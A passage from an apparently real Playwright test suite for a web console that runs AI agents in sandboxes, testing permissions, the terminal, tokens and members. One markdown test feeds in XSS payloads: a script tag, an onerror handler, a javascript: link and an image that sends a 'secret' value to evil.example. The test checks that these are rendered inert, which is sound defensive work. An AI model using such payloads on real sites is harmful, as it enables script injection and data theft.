  await form.locator('[role="alert"]', { hasText: 'Release: choose one' }).waitFor();
  await release.getByLabel('beta').check();
  await form.locator('[data-field="channel"]').getByLabel('Channel two').check();
  await form.locator('[data-field="notify"] input').check();
  await form.locator('[data-field="copies"] input').fill('3');
  await form.getByRole('button', { name: 'Answer', exact: true }).click();
  const said = page.locator('.item-message', { hasText: 'elicitation: accept' });
  await said.waitFor({ timeout: 30000 });
  const text = await said.innerText();
  for (const part of ['release:beta', 'channel:ch-2', 'notify:true', 'copies:3']) assert(text.includes(part), `the harness got ${part}: ${text}`);
  const resolution = await page.locator('.question.resolved .resolution').innerText();
  assert(/^Answered by you: /.test(resolution) && resolution.includes('channel: ch-2'), `the answer reads: ${resolution}`);
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

check('a viewer sees the session but no prompt box and no terminal', async () => {
  state.victor = await makeUser('victor');
  const { context, page } = await signedIn(state.alice);
  const ws = await pageApi(page, 'POST', '/api/v1/workspaces', { name: `team-${run}` });
  await pageApi(page, 'PUT', `/api/v1/workspaces/${ws.id}/members/${state.victor.id}`, { role: 'viewer' });
  const { agent, session } = await newAgentWithSession(page, 'shared', { workspace_id: ws.id });
  await pageApi(page, 'POST', `/api/v1/sessions/${session.id}/prompt`, { text: 'text hello viewers' });
  const { context: vc, page: vp } = await signedIn(state.victor);
  await vp.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await vp.locator('.item-message', { hasText: 'hello viewers' }).waitFor({ timeout: 60000 });
  assert((await vp.locator('textarea').count()) === 0, 'no prompt box');
  await vp.locator('.viewer-note').waitFor();
  await vp.goto(`/agents/${agent.id}`);
  await vp.getByText('Overview').waitFor();
  assert((await vp.getByRole('link', { name: 'Terminal' }).count()) === 0, 'no terminal link');
  assert((await vp.getByRole('button', { name: 'New session' }).count()) === 0, 'no new session');
  await vp.goto(`/agents/${agent.id}/terminal`);
  await vp.getByText('Operators of this agent').waitFor();
  assert((await vp.locator('.xterm').count()) === 0, 'no terminal opened');
  await context.close();
  await vc.close();
});

check('markdown with a <script>, a javascript: link and a remote image renders inert', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'markdown');
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  await prompt(
    page,
    'text <script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"> [click me](javascript:window.__pwned=3) ![leak](https://evil.example/leak.png?q=secret) [ok](https://example.com)',
  );
  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
  const msg = page.locator('.item-message').last();
  assert((await msg.locator('script, img, iframe').count()) === 0, 'no script or image element');
  assert((await msg.locator('a[href^="javascript"]').count()) === 0, 'no javascript: link');
  assert((await msg.locator('a[href="https://evil.example/leak.png?q=secret"]').count()) === 1, 'the image is a link');
  assert(/<script>/.test(await msg.innerText()), 'the tag shows as text');
  await msg.getByText('click me').click();
  assert((await page.evaluate(() => window.__pwned)) === undefined, 'nothing ran');
  await context.close();
});

check('a cut payload loads whole on request', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'big');
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('[data-status="live"]').waitFor();
  await prompt(page, 'big 400000');
  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
  await page.getByRole('button', { name: 'Load whole' }).click();
  const whole = await page.locator('pre.whole').innerText();
  assert(whole.length > 400000, `the whole payload: ${whole.length} characters`);
  await context.close();
});

check('the terminal echoes input and resizes', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent } = await newAgentWithSession(page, 'term');
  await page.goto(`/agents/${agent.id}/terminal`);
  await page.locator('[data-status="connected"]').waitFor({ timeout: 90000 });
  await page.locator('.xterm').click();
  await page.keyboard.type('echo hello-$((6*7))\n');
  await page.locator('.xterm-rows', { hasText: 'hello-42' }).waitFor({ timeout: 30000 });
  await page.setViewportSize({ width: 700, height: 500 });
  await page.waitForTimeout(500);
  await page.keyboard.type('stty size\n');
  await page.waitForFunction(() => /\n\s*\d+ \d+\s*\n/.test(document.querySelector('.xterm-rows')?.innerText ?? ''), null, { timeout: 15000 });
  const rows = await page.locator('.xterm-rows').innerText();
  const sizes = [...rows.matchAll(/^\s*(\d+) (\d+)\s*$/gm)].map((m) => Number(m[2]));
  assert(sizes.length && sizes[sizes.length - 1] < 100, `the terminal took the smaller size: ${sizes}`);
  await shot(page, 'terminal');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

check('sign in inside the sandbox from the overview: the login runs in the terminal and the agent is marked', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'sandbox-login');
  await pageApi(page, 'POST', `/api/v1/sessions/${session.id}/prompt`, { text: 'text hello' });
  // The login methods come from the running harness's answer to initialize.
  await page.goto(`/agents/${agent.id}/sessions/${session.id}`);
  await page.locator('.item-turn_end').waitFor({ timeout: 60000 });
  await page.goto(`/agents/${agent.id}`);
  await page.getByText('Sign in inside this sandbox instead').click();
  await page.locator('a[href*="terminal?login="]').first().click();
  await page.waitForURL(/terminal\?login=/);
  await page.locator('.xterm-rows', { hasText: 'signed in' }).waitFor({ timeout: 60000 });
  await page.locator('[data-status^="closed"]').waitFor({ timeout: 30000 });
  await shot(page, 'terminal-login');
  await page.goto(`/agents/${agent.id}`);
  await page.locator('.badge', { hasText: 'credentials inside sandbox' }).waitFor();
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

check('the harness log panel shows what the running harness wrote on stderr, live', async () => {
  const { context, page } = await signedIn(state.alice);
  const { agent, session } = await newAgentWithSession(page, 'stderr', { env: { FAKEAGENT_STDERR_LINES: '3' } });
  await pageApi(page, 'POST', `/api/v1/sessions/${session.id}/prompt`, { text: 'text hello' });
  await page.goto(`/agents/${agent.id}`);
  await page.locator('.harness-log summary').click();
  await page.locator('.harness-log pre', { hasText: 'fakeagent: stderr line 3 of 3' }).waitFor({ timeout: 60000 });
  assert(/harness #\d+/.test(await page.getByTestId('harness-log-facts').innerText()), 'the panel names the harness');
  await shot(page, 'agent-harness-log');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

check('settings pages: tokens created once and revoked, providers, members', async () => {
  const { context, page } = await signedIn(state.alice);
  await page.goto('/settings/tokens');
  await page.getByLabel("New token's name").fill('ui-token');
  await page.getByRole('button', { name: 'Create token' }).click();
  const value = await page.locator('.secret-once').innerText();
  assert(value.startsWith('ah_'), 'shown once');
  await shot(page, 'settings-tokens');
  page.once('dialog', (d) => d.accept());
  await page.locator('tr[data-token="ui-token"]').getByRole('button', { name: 'Revoke' }).click();
  await page.locator('tr[data-token="ui-token"]').waitFor({ state: 'detached' });
  const r = await fetch(`${URL_}/api/v1/me`, { headers: { authorization: `Bearer ${value}` } });
  assert(r.status === 401, 'the revoked token stopped working');
  await page.goto('/settings/providers');
  await page.getByRole('heading', { name: 'Provider logins' }).waitFor();
  await shot(page, 'settings-providers');
  await page.goto('/settings/audit');
  await page.locator('td code', { hasText: 'token.revoked' }).first().waitFor();
  await shot(page, 'settings-audit');
  await page.goto('/settings/secrets');
  await shot(page, 'settings-secrets');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

check('the agents list and overview show the observed state: asleep, awake, asleep, and an error with its reason', async () => {
  const { context, page } = await signedIn(state.alice);
  const agent = await pageApi(page, 'POST', '/api/v1/agents', { name: 'states', harness: 'fake' });
  const broken = await pageApi(page, 'POST', '/api/v1/agents', { name: 'broken', harness: 'command', command: ['no-such-acp-agent'] });
  // A new agent is asleep, or awake when it took a sandbox started ahead (the warm pool): then sleep it.
  await page.goto(`/agents/${agent.id}`);
  await page.locator('.facts .state[data-state="asleep"], .facts .state[data-state="awake"]').waitFor({ timeout: 60000 });
  if ((await page.locator('.facts .state').getAttribute('data-state')) === 'awake') {
    await page.getByRole('button', { name: 'Sleep' }).click();
    await page.locator('.facts .state[data-state="asleep"]').waitFor({ timeout: 60000 });
  }
  await page.goto('/');
  await page.locator('tr[data-agent="states"] .state[data-state="asleep"]').waitFor();
  await page.goto(`/agents/${agent.id}`);
  await page.getByRole('button', { name: 'Wake' }).click();
  // Starting until its sandbox connects; the overview follows it without a reload.
  await page.locator('.facts .state[data-state="awake"]').waitFor({ timeout: 90000 });
  await page.getByRole('button', { name: 'Sleep' }).click();
  await page.locator('.facts .state[data-state="asleep"]').waitFor({ timeout: 60000 });
  // A harness that cannot start: the turn fails and the agent says why, in the list too.
  const session = await pageApi(page, 'POST', `/api/v1/agents/${broken.id}/sessions`, {});
  await pageApi(page, 'POST', `/api/v1/sessions/${session.id}/prompt`, { text: 'hello' });
  await page.goto(`/agents/${broken.id}/sessions/${session.id}`);
  await page.locator('.item-turn_end').waitFor({ timeout: 90000 });
  await page.goto('/');
  const row = page.locator('tr[data-agent="broken"]');
  await row.locator('.state[data-state="error"]').waitFor();
  assert(/HARNESS_START_FAILED/.test(await row.locator('.state-reason').innerText()), 'the reason shows in the list');
  await shot(page, 'agents-states');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

check('members: the list, a role changed and a member removed by an admin; the last admin stays; a viewer only reads', async () => {
  const mia = await makeUser('mia');
  const { context, page } = await signedIn(state.alice);
  const ws = await pageApi(page, 'POST', '/api/v1/workspaces', { name: `crew-${run}` });
  await page.goto('/settings/members');
  await page.getByLabel('Workspace').selectOption(ws.id);
  await page.locator(`tr[data-member="${state.alice.username}"]`).waitFor();
  // Add Mia by her id, as a viewer.
  await page.getByLabel('Add a member by user id').fill(mia.id);
  await page.getByLabel('Their role').selectOption('viewer');
  await page.getByRole('button', { name: 'Add member' }).click();
  const row = page.locator(`tr[data-member="${mia.username}"]`);
  await row.waitFor();
  assert((await row.getByLabel(`Role of ${mia.username}`).inputValue()) === 'viewer', 'added as a viewer');
  // Mia, a viewer, sees the list but no controls.
  const { context: mc, page: mp } = await signedIn(mia);
  await mp.goto('/settings/members');
  await mp.getByLabel('Workspace').selectOption(ws.id);
  await mp.locator(`tr[data-member="${state.alice.username}"]`).waitFor();
  assert((await mp.locator('tr[data-member] select').count()) === 0, 'a viewer changes no roles');
  assert((await mp.getByRole('button', { name: 'Remove' }).count()) === 0, 'a viewer removes no one');
  await shot(mp, 'settings-members-viewer');
  await mc.close();
  // A role change, saved on change.
  await row.getByLabel(`Role of ${mia.username}`).selectOption('operator');
  await page.waitForFunction(
    async ({ ws, id }) => (await (await fetch(`/api/v1/workspaces/${ws}/members`)).json()).members.some((m) => m.user_id === id && m.role === 'operator'),
    { ws: ws.id, id: mia.id },
  );
  // The last admin cannot step down: the error shows and the choice goes back.
  const mine = page.locator(`tr[data-member="${state.alice.username}"]`);
  await mine.getByLabel(`Role of ${state.alice.username}`).selectOption('viewer');
  await mine.locator('[role="alert"]', { hasText: 'LAST_ADMIN' }).waitFor();
  assert((await mine.getByLabel(`Role of ${state.alice.username}`).inputValue()) === 'admin', 'the select shows the role that holds');
  await shot(page, 'settings-members');
  // Removal.
  page.once('dialog', (d) => d.accept());
  await row.getByRole('button', { name: 'Remove' }).click();
  await row.waitFor({ state: 'detached' });
  const left = await pageApi(page, 'GET', `/api/v1/workspaces/${ws.id}/members`);
  assert(left.members.length === 1 && left.members[0].user_id !== mia.id, 'Mia is gone');
  assert(page.problems.length === 0, page.problems.join('\n'));
  await context.close();
});

state.alice = await makeUser('alice');
let failures = 0;
for (const { name, fn } of checks) {
  if (FILTER && !name.includes(FILTER)) continue;
  const t0 = Date.now();
  try {
    await fn();
    console.log(`PASS ${name} (${Date.now() - t0} ms)`);
  } catch (e) {
    failures++;
    console.log(`FAIL ${name} (${Date.now() - t0} ms)\n     ${String(e?.stack ?? e).split('\n').slice(0, 6).join('\n     ')}`);
  }
}
await browser.close();
console.log(`${failures ? 'FAILED' : 'PASSED'}: ${failures} failing; screenshots in ${SHOTS}`);
process.exit(failures);
